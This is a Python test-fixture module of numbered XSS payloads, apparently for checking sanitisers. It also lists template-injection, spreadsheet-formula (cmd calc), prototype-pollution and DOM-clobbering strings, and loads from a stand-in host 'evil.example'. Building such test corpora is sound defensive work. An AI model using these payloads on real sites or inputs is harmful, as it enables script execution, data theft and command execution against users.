"""Texts that would do something in a browser if they were ever more than text.

Each sets `window.__xss` to its own number, or asks another host, whose address then holds it. A
payload is written for a place: `text` between tags, `"`, `'` and `bare` for the value of an
attribute with such quotes, `address` for that of a link, `script` inside a text of a script. It
goes off `load`, `hover` or `click`; with "" it is for something else than a browser's first reading
of a page (a second reading, a template, a spreadsheet, a filter that takes parts away), or it only
spoils the page around it.
"""

from dataclasses import dataclass

FOREIGN = "evil.example"
RUN, NUMBER, HOST = "!RUN!", "!N!", "!HOST!"


@dataclass(frozen=True)
class Payload:
    """A payload with its number; `place` and `when` as the module says."""

    number: int
    text: str
    place: str
    when: str


TEXT_ON_LOAD = (
    "<script>!RUN!</script>",
    "<ScRiPt >!RUN!</sCrIpT >",
    '<script src="data:text/javascript,!RUN!"></script>',
    "<img src=x onerror=!RUN!>",
    "<IMG SRC=x OnErRoR=!RUN!>",
    "<img/src/onerror=!RUN!>",
    "<img\x0csrc=x\x0conerror=!RUN!\x0c>",
    '<img src=x onerror="&#119;indow.__xss=!N!">',
    "<img src=x onerror=&#x77;indow&period;__xss&equals;!N!>",
    "<svg onload=!RUN!></svg>",
    "<svg/onload=!RUN!></svg>",
    "<svg><script>!RUN!</script></svg>",
    "<svg><script href=data:text/javascript,!RUN! /></svg>",
    "<svg><animate onbegin=!RUN! attributeName=x dur=1s></animate></svg>",
    "<svg><set onbegin=!RUN! attributeName=x></set></svg>",
    "<svg><image href=//!HOST!/!N!></image></svg>",
    "<body onload=!RUN!>",
    "<details open ontoggle=!RUN!>x</details>",
    "<audio src=x onerror=!RUN!></audio>",
    "<video><source onerror=!RUN! src=x></video>",
    "<input type=image src=x onerror=!RUN!>",
    "<input autofocus onfocus=!RUN!>",
    "<style>@keyframes x{}</style><b style='animation:x 1s' onanimationstart=!RUN!>x</b>",
    "<x oncontentvisibilityautostatechange=!RUN! style=display:block;content-visibility:auto></x>",
    '<iframe srcdoc="<script>parent.__xss=!N!</script>"></iframe>',
    "<iframe srcdoc='&lt;img src=x onerror=parent.__xss=!N!&gt;'></iframe>",
    '<iframe src="javascript:parent.__xss=!N!"></iframe>',
    '<iframe src="data:text/html,<script>!RUN!</script>"></iframe>',
    '<object data="data:text/html,<script>!RUN!</script>"></object>',
    '<embed src="data:text/html,<script>!RUN!</script>">',
    "<div><template shadowrootmode=open><img src=x onerror=!RUN!></template></div>",
    # what is read otherwise the second time, or inside another element
    '<noscript><p title="</noscript><img src=x onerror=!RUN!>">',
    '<svg></p><style><a id="</style><img src=x onerror=!RUN!>">',
    "<math><style><img src=x onerror=!RUN!></style></math>",
    "<svg><style><img src=x onerror=!RUN!></style></svg>",
    "<svg><desc><![CDATA[</desc><img src=x onerror=!RUN!>]]></desc></svg><img src=x onerror=!RUN!>",
    # out of what stands around
    "</title><script>!RUN!</script>",
    "</textarea><img src=x onerror=!RUN!>",
    "</script><script>!RUN!</script>",
    "</style></noscript></dialog></main><img src=x onerror=!RUN!>",
    "--><img src=x onerror=!RUN!>",
    "<!--><img src=x onerror=!RUN!>-->",
    "<!-- --!><img src=x onerror=!RUN!>",
    "<![CDATA[><img src=x onerror=!RUN!>]]>",
    "]]><img src=x onerror=!RUN!>",
    "<?xml version='1.0'?><img src=x onerror=!RUN!>",
    "`><img src=x onerror=!RUN!>`",
    # other hosts, other bases, other pages
    "<img src=//!HOST!/!N!.png>",
    "<img srcset='//!HOST!/!N!.png 1x'>",
    "<link rel=stylesheet href=//!HOST!/!N!.css>",
    "<style>@import '//!HOST!/!N!.css';</style>",
    '<div style="background:url(//!HOST!/!N!)">x</div>',
    "<base href=//!HOST!/!N!/><img src=a.png>",
    '<meta http-equiv="refresh" content="0;url=//!HOST!/!N!">',
    # several at once
    "$$\\text{<img src=x onerror=!RUN!>}$$",
    "[b]<img src=x onerror=!RUN!>[/b]",
    "\"'--></style></script><svg oNload=!RUN!></svg>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=!RUN! )//%0D%0A//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=!RUN!//>\\x3e</svg>",
)
ATTRIBUTE_ON_LOAD = (
    ('"', '"><script>!RUN!</script>'),
    ('"', '"><img src=x onerror=!RUN!>'),
    ('"', '" autofocus onfocus="!RUN!'),
    (
        '"',
        '" style="display:block;content-visibility:auto" oncontentvisibilityautostatechange="!RUN!',
    ),
    ("'", "'><img src=x onerror=!RUN!>"),
    ("'", "' autofocus onfocus='!RUN!"),
    ("bare", "x autofocus onfocus=!RUN! "),
    ("bare", "x><img src=x onerror=!RUN!>"),
    ("script", "'-(!RUN!)-'"),
    ("script", "';!RUN!//"),
)
LATER = (
    ('"', '" onmouseover="!RUN!', "hover"),
    ("'", "' onmouseover='!RUN!", "hover"),
    ("text", "<b onmouseover=!RUN!>x</b>", "hover"),
    ("text", "<b onpointerenter=!RUN!>x</b>", "hover"),
    ("text", '<a href="javascript:!RUN!">x</a>', "click"),
    ("text", '<a href="java&#09;script:!RUN!">x</a>', "click"),
    ("text", '<a href="&#x6A;avascript&colon;!RUN!">x</a>', "click"),
    ("text", "<form action=javascript:!RUN!><button>x</button></form>", "click"),
    ("text", "<form><button formaction=javascript:!RUN!>x</button></form>", "click"),
    ("text", "<form action=//!HOST!/!N!><button>x</button></form>", "click"),
    ("address", "javascript:!RUN!", "click"),
    ("address", "JaVaScRiPt:!RUN!", "click"),
    ("address", " \tjavascript:!RUN!", "click"),
    ("address", "java\nscript:!RUN!", "click"),
    ("address", "\x01javascript:!RUN!", "click"),
    ("address", "javascript://https://moede.example/%0A!RUN!", "click"),
    ("address", "//!HOST!/!N!", "click"),
)
ELSEWHERE = (
    "data:text/html,<script>!RUN!</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
    "vbscript:!RUN!",
    'https://moede.example/"onclick="!RUN!',
    "x:expression(!RUN!)",
    "red;background:url(//!HOST!/!N!)",
    "{{7*7}} {{ cycler.__init__.__globals__.os }} {% raw %} {# x #}",
    "{{constructor.constructor('!RUN!')()}} ${!RUN!} #{!RUN!} <%= !RUN! %>",
    "{0.__class__} {name.__init__} %(x)s %s",
    "[x](javascript:!RUN!) ![x](//!HOST!/!N!.png) <javascript:!RUN!>",
    "[url=javascript:!RUN!]x[/url] @{safe} @x{safe}",
    "&lt;img src=x onerror=!RUN!&gt; &amp;lt;script&amp;gt;",
    "%3Cimg src=x onerror=!RUN!%3E",
    "\\x3cimg src=x onerror=!RUN!\\x3e \\u003cscript\\u003e!RUN!\\u003c/script\\u003e",
    "\u2028!RUN!\u2029//",
    "\uff1cscript\uff1e!RUN!\uff1c/script\uff1e \u02bcx\u02ba \u2039img\u203a",
    "\u00c0\u00bcscript\u00c0\u00be!RUN!\u00c0\u00bc/script\u00c0\u00be",
    "<scr\x00ipt>!RUN!</scr\x00ipt>",
    "<scr<script>ipt>!RUN!</scr</script>ipt>",
    "\u202e\u2066<b>\u2069\u202c\u200b\ufeff",
    '=HYPERLINK("javascript:!RUN!","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '\r=IMPORTXML("//!HOST!/!N!","//a")',
    "__proto__ constructor toString",
    "<img name=getElementById><form id=location name=cookie><input name=attributes></form>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=!RUN!></style></form>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=!RUN!&gt;">',
    "<a\tid=x\ttabindex=1\tonclick\n=\n!RUN!>x</a>",
    # what swallows the page behind it
    "<img src=x onerror=!RUN! y=",
    "<select><option>",
    "<textarea>",
    "<title>",
    "<!--",
    "<marquee onstart=!RUN!>x</marquee>",
    "<plaintext>",
)


def _filled(number: int, text: str) -> str:
    run = f"window.__xss={number}"
    return text.replace(RUN, run).replace(NUMBER, str(number)).replace(HOST, FOREIGN)


PAYLOADS = tuple(
    Payload(number, _filled(number, text), place, when)
    for number, (place, text, when) in enumerate(
        (
            *(("text", text, "load") for text in TEXT_ON_LOAD),
            *((place, text, "load") for place, text in ATTRIBUTE_ON_LOAD),
            *LATER,
            *(("", text, "") for text in ELSEWHERE),
        ),
        start=1,
    )
)
